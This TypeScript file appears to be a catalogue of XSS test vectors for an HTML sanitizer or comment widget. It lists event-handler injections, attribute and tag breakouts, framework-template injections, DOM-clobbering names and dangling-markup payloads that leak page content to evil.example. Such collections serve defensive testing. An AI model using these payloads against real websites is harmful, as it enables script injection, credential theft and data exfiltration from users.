import type { VectorClass } from './vector-class.ts';

const X = 'alert(1)';

/** What makes an element run something, and what breaks out of where it stands. */
export const HANDLERS: Record<string, VectorClass> = {
  'event handlers': {
    why: 'any attribute that begins with on runs what it holds',
    vectors: [
      `<img src=x onerror=${X}>`, `<img src="x" ONERROR="${X}">`, `<b onmouseover=${X}>x</b>`, `<b/onclick=${X}>x</b>`, `<p\tonclick\n=\n"${X}">x</p>`,
      `<a href="/" onfocus=${X} autofocus tabindex=1>x</a>`, `<body onload=${X}>`, `<video><source onerror=${X}></video>`, `<audio src=x onerror=${X}>`,
      `<details open ontoggle=${X}>x</details>`, `<input autofocus onfocus=${X}>`, `<marquee onstart=${X}>x</marquee>`, `<br onclick=${X}>`, `<li onpointerenter=${X}>x`,
      `<q cite="javascript:${X}" onclick=${X}>x</q>`, `<code style="animation:x" onanimationend=${X}>x</code>`, `<i \u000C onclick=${X}>x</i>`,
      `<b oncontentvisibilityautostatechange=${X} style=content-visibility:auto>x</b>`, `<p onbeforetoggle=${X}>x</p>`, `<p onscrollend=${X} tabindex=0>x</p>`, `<p onbeforematch=${X} hidden=until-found>x</p>`, `<svg/onload=${X}//`, `<a onauxclick=${X} href=x>x</a>`,
      `<p onformdata=${X}>x</p>`, `<b ontransitionend=${X}>x</b>`, `<xss id=x onfocusin=${X} tabindex=1>#x</xss>`, `<b on\0click=${X}>x</b>`, `<b OnClIcK=${X}>x</b>`, `<b onclick\u000B=${X}>x</b>`, `<b x onclick=${X} onclick=x>x</b>`, `<b on click=${X}>x</b>`,
      `<q onbeforeinput=${X} contenteditable>x</q>`, `<blockquote oncopy=${X}>x</blockquote>`, `<em onpointerrawupdate=${X}>x</em>`, `<del onwheel=${X}>x</del>`, `<ol onsecuritypolicyviolation=${X}><li>x</ol>`, `<b onclick="&#97;lert(1)">x</b>`, `<b onclick=\\u0061lert(1)>x</b>`,
    ],
  },
  'broken attributes': {
    why: 'a quote that one parser sees and another does not',
    vectors: [
      `<a href="x" title="><img src=x onerror=${X}>">x</a>`, `<a href='"><script>${X}</script>'>x</a>`, `<a href="x"onclick="${X}">x</a>`, `<a href=\`x\` onclick=\`${X}\`>x</a>`,
      `<a "onclick=${X}">x</a>`, `<a href="x" "=">${X}">x</a>`, `<a =onclick=${X} href=x>x</a>`, `<b x="<!--" onclick=${X}>x</b>`, `<a href="&quot; onclick=&quot;${X}">x</a>`,
      `<a href="x\u2028" onclick=${X}>x</a>`, `<a href="x&quot;&gt;&lt;script&gt;${X}">x</a>`, `<img """><script>${X}</script>">`, `<a href="a&b=c&amp;d=<e>">x</a>`,
      `"><script>${X}</script>`, `'><img src=x onerror=${X}>`, `" autofocus onfocus="${X}`, `' onmouseover='${X}`, `\` onmouseover=\`${X}`, `" onclick=${X} x="`, `&quot;&gt;&lt;img src=x onerror=${X}&gt;`, `\\"><script>${X}</script>`, `\\'-${X}-\\'`, `';${X}//`, `";${X}//`,
      `</textarea><script>${X}</script>`, `</title><script>${X}</script>`, `</style><script>${X}</script>`, `</script><script>${X}</script>`, `</select><img src=x onerror=${X}>`, `</template><img src=x onerror=${X}>`, `--><img src=x onerror=${X}>`, `]]><script>${X}</script>`, `*/${X}/*`, `%22%3E%3Cscript%3E${X}%3C/script%3E`,
      `<a href="x" / onclick=${X}>x</a>`, `<a href='x' 'onclick=${X}>x</a>`, `<a href=x/onclick=${X}>x</a>`, `<a href="\\" onclick=${X}>x</a>`,
    ],
  },
  'newer attributes': {
    why: 'attributes that act without a script, or give an element another nature',
    vectors: [
      `<button popovertarget=menu popovertargetaction=show onclick=${X}>x</button>`, `<p popover id=menu onbeforetoggle=${X}>x</p>`, `<b accesskey=x onclick=${X}>x</b>`, `<a href="https://example.org" accesskey="a">x</a>`, `<b is="x-y" onclick=${X}>x</b>`,
      `<button is=wegweiser-comments>x</button>`, `<wegweiser-comments page="demo"><a href="//evil.example">x</a></wegweiser-comments>`, `<p slot=x part=comment exportparts=x>x</p>`, `<template shadowrootmode=open><slot onslotchange=${X}></slot></template>`, `<button command=show-modal commandfor=x>x</button>`,
      `<p itemscope itemtype=//evil.example>x</p>`, `<p inert hidden>x</p>`, `<b contenteditable oninput=${X}>x</b>`, `<b draggable=true ondragstart=${X}>x</b>`, `<p hx-get="//evil.example" hx-trigger="load">x</p>`, `<p data-hx-on:load=${X}>x</p>`, `<p x-data x-init="${X}">x</p>`, `<p ng-app>{{constructor.constructor('${X}')()}}</p>`,
      `<p v-on:click=${X}>{{ ${X} }}</p>`, `<b nonce=x onclick=${X}>x</b>`, `<a href=https://example.org attributionsrc=//evil.example>x</a>`, `<a href="https://example.org" hreflang=x type=text/html target=_top>x</a>`, `<b tabindex=1 autofocus onfocus=${X} id=x>x</b>`, `<b lang="x" dir="rtl" translate=no>x</b>`,
    ],
  },
  'clobbered names': {
    why: 'an id or a name becomes a property of document or window, and scripts read that',
    vectors: [
      `<a id=csrf name=value href="//evil.example">x</a>`, `<form id=document><input name=cookie></form>`, `<form name=body></form>`, `<img name=getElementById>`, `<a id=main>x</a>`, `<a id=comments></a><a id=comments name=length>x</a>`, `<form id=x><input id=attributes></form>`,
      `<p id="write">x</p>`, `<p name="currentScript">x</p>`, `<img name=currentScript src=//evil.example/c.js>`, `<a id=defaultView href="x:y">x</a>`, `<form id=location><a name=href></form>`, `<input id=text name=text><input id=email>`, `<p id=__proto__ class=constructor>x</p>`,
      `<iframe name=self srcdoc="<a id=x></a>"></iframe>`, `<a id=htmx><a id=htmx name=config href="x">x</a>`, `<embed name=cookie>`, `<object name=forms></object>`, `<p id="comment-1">x</p>`, `<p id="text-error" class="error">x</p>`,
    ],
  },
  'dangling markup': {
    why: 'an attribute left open swallows what follows, secrets too, and sends it',
    vectors: [
      `<img src='//evil.example/?`, `<a href='https://evil.example/?x=`, `<form action=//evil.example><textarea name=x>`, `<button formaction=//evil.example><option>`, `<base href='//evil.example/`, `<meta http-equiv=refresh content='0;url=//evil.example/?`, `<table background='//evil.example/?`,
      `<link rel=stylesheet href='//evil.example/?`, `<iframe src='//evil.example/?`, `<input type=hidden value='`, `<a target='`, `<style>@import'//evil.example/?`, `<select><option>`, `<portal src='//evil.example?`, `<noscript><form action=//evil.example><input type=submit style="position:fixed"><textarea name=y>`,
    ],
  },
}; // biome-ignore format: a heap
